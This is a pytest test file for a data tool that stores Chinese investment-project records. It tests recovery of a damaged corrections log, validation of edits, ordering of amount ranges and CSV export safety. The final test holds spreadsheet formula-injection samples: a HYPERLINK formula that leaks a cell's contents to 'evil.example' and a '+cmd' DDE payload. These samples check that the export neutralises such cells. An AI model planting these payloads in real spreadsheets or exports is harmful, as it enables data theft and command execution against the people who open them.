"""Issue 11 items 9–12: a damaged corrections log, corrections validated at the library boundary,
amount ranges ordered and absurd amounts refused, and exports safe for JSON parsers and spreadsheets."""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import shutil
import sqlite3

import pytest

from geo.store import corrections
from geo.cli import main
from geo.store.corrections import CorrectionError, corrections_path
from geo.errors import StoreError
from geo.store.export import to_csv, to_geojson
from geo.extract.amounts import find_amounts
from geo.store.gpkg import read_records


@pytest.fixture
def db(tmp_path, seeded):
    path = tmp_path / "p.gpkg"
    shutil.copy(seeded, path)
    return path


def _digest(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _strict_json(text: str):
    def refuse(name):
        raise ValueError(f"{name} is not JSON")

    return json.loads(text, parse_constant=refuse)


# ---------------------------------------------------------------- 9. damaged corrections log
def _damage(log, page: int = 6, page_size: int = 4096) -> None:
    """Overwrite the body of one page with garbage, as a bad sector or a torn write would."""
    data = bytearray(log.read_bytes())
    assert len(data) > (page + 1) * page_size
    data[page * page_size + 8:(page + 1) * page_size - 8] = b"\xa5" * (page_size - 16)
    log.write_bytes(bytes(data))


def test_damaged_log_is_refused_reported_and_recovered(db, capsys):
    ids = list(read_records(db)["id"])
    for i in range(300):
        corrections.save(db, ids[i % len(ids)], "edit", {"name": f"改名{i}"}, note="备注" * 40)
    log = corrections_path(db)
    _damage(log)
    damaged = _digest(log)

    with pytest.raises(StoreError, match="damaged.*recover-corrections"):
        corrections.load(db)
    with pytest.raises(StoreError, match="nothing was written"):
        corrections.save(db, ids[0], "hide")
    assert _digest(log) == damaged

    assert main(["export", "--db", str(db)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "recover-corrections" in err and "Traceback" not in err

    assert main(["recover-corrections", "--db", str(db)]) == 0
    out = capsys.readouterr().out
    (backup,) = log.parent.glob(f"{log.name}.damaged-*")
    assert _digest(backup) == damaged and str(backup) in out
    kept = corrections.load(db)
    assert 0 < len(kept) < 300 and all(c.fields["name"].startswith("改名") for c in kept)
    assert corrections.save(db, ids[0], "hide").seq > max(c.seq for c in kept)
    assert main(["export", "--db", str(db), "--out", str(db.parent / "x.geojson")]) == 0


def test_recovering_an_intact_log_keeps_every_row(db):
    ids = list(read_records(db)["id"])
    for i in range(5):
        corrections.save(db, ids[i], "hide")
    result = corrections.recover(db)
    assert (result.kept, result.lost) == (5, 0) and result.backup.exists()
    assert [c.record_id for c in corrections.load(db)] == ids[:5]


def test_a_log_that_is_not_sqlite_is_reported_with_the_way_out(db):
    corrections_path(db).write_bytes(b"not a database" * 400)
    with pytest.raises(StoreError, match="recover-corrections"):
        corrections.load(db)


# ---------------------------------------------------------------- 10. corrections validated
@pytest.mark.parametrize("fields, words", [
    ({"amount_yi": float("nan")}, "amount_yi"),
    ({"amount_yi": float("inf")}, "amount_yi"),
    ({"amount_yi": 1e400}, "amount_yi"),
    ({"amount_yi": "1e400"}, "amount_yi"),
    ({"amount_yi": "NaN"}, "amount_yi"),
    ({"amount_yi": True}, "amount_yi"),
    ({"amount_yi": -1}, "amount_yi"),
    ({"amount_yi": 5e6}, "amount_yi"),
    ({"amount_yi": [3]}, "amount_yi"),
    ({"date": "2024-13-45"}, "date"),
    ({"date": "2024-02-30"}, "date"),
    ({"date": "99999-01-01"}, "date"),
    ({"date": "1066-10-14"}, "date"),
    ({"date": 20240101}, "date"),
    ({"project_count": -3}, "project_count"),
    ({"project_count": 0}, "project_count"),
    ({"project_count": True}, "project_count"),
    ({"project_count": 2.5}, "project_count"),
    ({"project_count": 10**12}, "project_count"),
    ({"chain": ["氢能", "光伏"]}, "chain must be text"),
    ({"name": {"a": 1}}, "name must be text"),
    ({"company": "公" * 501}, "at most 500"),
    ({"stage": ["signed"]}, "stage"),
    ({"county_adcode": 140105}, "county_adcode must be text"),
])
def test_bad_corrections_are_refused_at_the_library_boundary(db, fields, words):
    (record_id,) = list(read_records(db)["id"])[:1]
    with pytest.raises(CorrectionError, match=words):
        corrections.save(db, record_id, "edit", fields)
    assert corrections.load(db) == []


def test_good_corrections_are_normalised(db):
    (record_id,) = list(read_records(db)["id"])[:1]
    saved = corrections.save(db, record_id, "edit", {"amount_yi": "12.5", "project_count": "3",
                                                     "date": dt.date(2024, 2, 29), "chain": "氢能"})
    assert saved.fields == {"amount_yi": 12.5, "project_count": 3, "date": "2024-02-29", "chain": "氢能"}


def test_ids_and_notes_must_be_text(db):
    with pytest.raises(CorrectionError, match="record_id must be text"):
        corrections.save(db, ["r1"], "hide")
    with pytest.raises(CorrectionError, match="note is"):
        corrections.save(db, "r1", "hide", note="注" * 10_000)


def test_an_old_log_holding_infinity_still_exports_valid_json(db):
    """A log written before validation (json.dumps writes Infinity by default) must not break exports."""
    record_id = list(read_records(db)["id"])[0]
    corrections.save(db, record_id, "hide")  # creates the log with its schema
    with sqlite3.connect(corrections_path(db)) as conn:
        conn.execute("INSERT INTO corrections (record_id, action, fields, created_at) VALUES (?, 'edit', ?, ?)",
                     (record_id, json.dumps({"amount_yi": float("inf")}), "2024-01-01T00:00:00+00:00"))
    conn.close()
    gdf, _ = corrections.read_current(db)
    text = to_geojson(gdf)
    assert "Infinity" not in text and "NaN" not in text
    feature = next(f for f in _strict_json(text)["features"] if f["id"] == record_id)
    assert feature["properties"]["amount_yi"] is None
    row = next(r for r in csv.DictReader(io.StringIO(to_csv(gdf).lstrip("\ufeff"))) if r["id"] == record_id)
    assert row["amount_yi"] == ""


# ---------------------------------------------------------------- 11. amount ranges
@pytest.mark.parametrize("text, value, top", [
    ("超4至0亿元", 0.0, 4.0),
    ("总投资4至2亿元", 2.0, 4.0),
    ("总投资3至5亿元", 3.0, 5.0),
])
def test_ranges_are_ordered(text, value, top):
    (amount,) = find_amounts(text)
    assert (amount.value_yi, amount.max_yi) == (value, top)


@pytest.mark.parametrize("text", ["总投资100000000000000000000亿元", "总投资2至100000000000000000000亿元",
                                  "签约投资额99999999999999999999999万亿元"])
def test_absurd_amounts_are_no_amounts(text):
    assert find_amounts(text) == []


def test_extracted_range_is_ordered_end_to_end():
    from geo.extract import extract_records
    from geo.ingest.read import ingest_text

    article = ingest_text("太原市小店区签约氢能项目，总投资40至20亿元。", "r.txt", title="标题")
    (record,) = extract_records(article)
    assert (record.amount_yi, record.amount_max_yi) == (20.0, 40.0)


# ---------------------------------------------------------------- 12. CSV formula injection
def test_formulas_in_csv_cells_are_neutralised(db, tmp_path, capsys):
    from geo.web import uploads

    title = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    report = uploads.add_pasted(db, "太原市小店区签约氢能项目，总投资30亿元。", title=title)
    assert report.results[0].status == "added"
    ids = list(read_records(db)["id"])
    corrections.save(db, ids[0], "edit", {"name": "+cmd|' /C calc'!A0", "company": "@SUM(1+1)"})
    corrections.save(db, ids[1], "edit", {"name": "-2+3", "company": "\tTAB"})
    out = tmp_path / "x.csv"
    assert main(["export", "--db", str(db), "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8").lstrip("\ufeff"))))
    cells = [v for r in rows for v in r.values() if v]
    assert not [c for c in cells if c[0] in "=+-@\t\r"]
    by_id = {r["id"]: r for r in rows}
    assert by_id[ids[0]]["name"] == "'+cmd|' /C calc'!A0" and by_id[ids[0]]["company"] == "'@SUM(1+1)"
    assert by_id[ids[1]]["name"] == "'-2+3" and by_id[ids[1]]["company"] == "'\tTAB"
    assert any(r["article_title"] == "'" + title for r in rows)
    # GeoJSON is data, not a spreadsheet: values stay as typed there.
    geojson = _strict_json(to_geojson(corrections.read_current(db)[0]))
    assert any(f["properties"]["article_title"] == title for f in geojson["features"])
